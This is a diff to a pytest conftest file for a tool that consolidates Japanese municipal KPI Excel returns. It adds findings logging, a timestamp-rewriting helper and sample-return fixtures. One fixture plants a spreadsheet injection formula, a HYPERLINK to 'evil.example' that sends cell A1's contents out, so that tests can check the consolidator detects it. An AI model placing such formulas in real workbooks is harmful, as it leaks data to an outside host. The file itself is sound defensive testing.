@@ -2,10 +2,14 @@
 from __future__ import annotations
 
 import datetime as dt
+import json
 import os
+import re
 import shutil
 import subprocess
 import sys
+import tempfile
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -62,6 +66,38 @@ def soffice() -> str | None:
 needs_soffice = pytest.mark.skipif(soffice() is None, reason="LibreOffice is not installed")
 
 
+# Every finding any test makes, in this process or a forked child (pool workers, isolated
+# reads), is logged by code: tests/test_zz_catalogue.py fails for a code no test produced.
+FINDINGS_LOG = Path(os.environ.setdefault("KPI_WORKBOOK_TEST_FINDINGS_LOG", tempfile.mkstemp(
+    prefix="kpi-workbook-findings-", suffix=".log")[1]))
+
+
+def _record_findings() -> None:
+    from kpi_workbook import findings
+
+    made = findings.make
+    if getattr(made, "recording", False):
+        return
+
+    def make(code, **fields):
+        with open(FINDINGS_LOG, "a", encoding="utf-8") as log:
+            log.write(code + "\n")
+        return made(code, **fields)
+    make.recording = True
+    findings.make = make
+
+
+_record_findings()
+
+
+def pytest_sessionfinish(session, exitstatus):
+    if os.getpid() == _SESSION_PID:
+        FINDINGS_LOG.unlink(missing_ok=True)
+
+
+_SESSION_PID = os.getpid()
+
+
 @pytest.fixture(scope="session")
 def renkei():
     from kpi_workbook.survey import load_survey
@@ -87,3 +123,90 @@ def generated(tmp_path_factory, renkei, roster_path):
     result = generate(roster_path, renkei, out, now=FIXED_NOW)
     assert result.written
     return {p.name.split("_")[0]: p for p in result.written}
+
+
+INJECTION = '=HYPERLINK("http://evil.example/"&A1,"click")'
+
+
+def set_modified(path, stamp):
+    """Rewrite the workbook's own modified time (what decides which resubmission wins)."""
+    with zipfile.ZipFile(path) as zf:
+        parts = {n: zf.read(n) for n in zf.namelist()}
+    core = parts["docProps/core.xml"].decode()
+    core = re.sub(r"(<dcterms:modified[^>]*>)[^<]*(<)", rf"\g<1>{stamp}\g<2>", core)
+    parts["docProps/core.xml"] = core.encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in parts.items():
+            zf.writestr(name, data)
+
+
+def rows(ws):
+    return [list(r) for r in ws.iter_rows(values_only=True)]
+
+
+@pytest.fixture(scope="session")
+def returns(generated, tmp_path_factory):
+    """The sample returns (seeds' numbers), plus a resubmission, a foreign file, junk.
+    Shared by the session: read it, never add to it (copy it first)."""
+    from kpi_workbook.fill import fill_workbook
+    folder = tmp_path_factory.mktemp("returns")
+    for answers in sorted((SAMPLES / "returns").glob("*.json")):
+        data = json.loads(answers.read_text(encoding="utf-8"))
+        path = fill_workbook(generated[answers.stem], data, folder / generated[answers.stem].name)
+        set_modified(path, "2021-10-15T09:00:00Z")
+    # 播磨 sends a corrected file later; the first one had a typo and an injected formula
+    first = json.loads((SAMPLES / "returns" / "R02.json").read_text(encoding="utf-8"))
+    first["KPI"][0]["目標値"] = "百八十四"
+    first["KPI"][0]["指標名"] = INJECTION
+    old = fill_workbook(generated["R02"], first, folder / "old" / "R02_初回.xlsx")
+    set_modified(old, "2021-10-01T09:00:00Z")
+    shutil.copy(FIXTURES / "xlsx-hostile" / "control_valid.xlsx", folder / "foreign.xlsx")
+    (folder / "~$R01_熊本連携中枢都市圏.xlsx").write_bytes(b"lock")
+    (folder / "readme.txt").write_text("memo", encoding="utf-8")
+    return folder
+
+
+@pytest.fixture
+def plain_returns(generated, tmp_path):
+    """Only the sample returns, named as generate names them."""
+    from kpi_workbook.fill import fill_workbook
+    folder = tmp_path / "plain"
+    for answers in sorted((SAMPLES / "returns").glob("*.json")):
+        data = json.loads(answers.read_text(encoding="utf-8"))
+        set_modified(fill_workbook(generated[answers.stem], data, folder / generated[answers.stem].name),
+                     f"2021-10-1{answers.stem[-1]}T09:00:00Z")
+    return folder
+
+
+@pytest.fixture(scope="session")
+def summary(returns, tmp_path_factory):
+    """The sample round consolidated: (result, the summary opened by openpyxl, its folder)."""
+    import openpyxl
+
+    from kpi_workbook.consolidate import consolidate
+    out = tmp_path_factory.mktemp("summary")
+    result = consolidate(returns, SAMPLES / "roster.csv", out / "summary.xlsx", csv_dir=out / "csv", jobs=2)
+    return result, openpyxl.load_workbook(out / "summary.xlsx"), out
+
+
+@pytest.fixture(scope="session")
+def kumamoto_return(generated, tmp_path_factory):
+    """熊本's sample return, filled as its clerk did."""
+    from kpi_workbook.fill import fill_workbook
+    data = json.loads((SAMPLES / "returns" / "R01.json").read_text(encoding="utf-8"))
+    return fill_workbook(generated["R01"], data, tmp_path_factory.mktemp("kumamoto") / generated["R01"].name)
+
+
+def edited(path, target, change):
+    """A copy of the workbook at *path* as *target*, *change* (book -> None) done by openpyxl."""
+    import openpyxl
+    book = openpyxl.load_workbook(path)
+    change(book)
+    Path(target).parent.mkdir(parents=True, exist_ok=True)
+    book.save(target)
+    return Path(target)
+
+
+def codes(result) -> set:
+    return {f.code for f in result.findings}
+
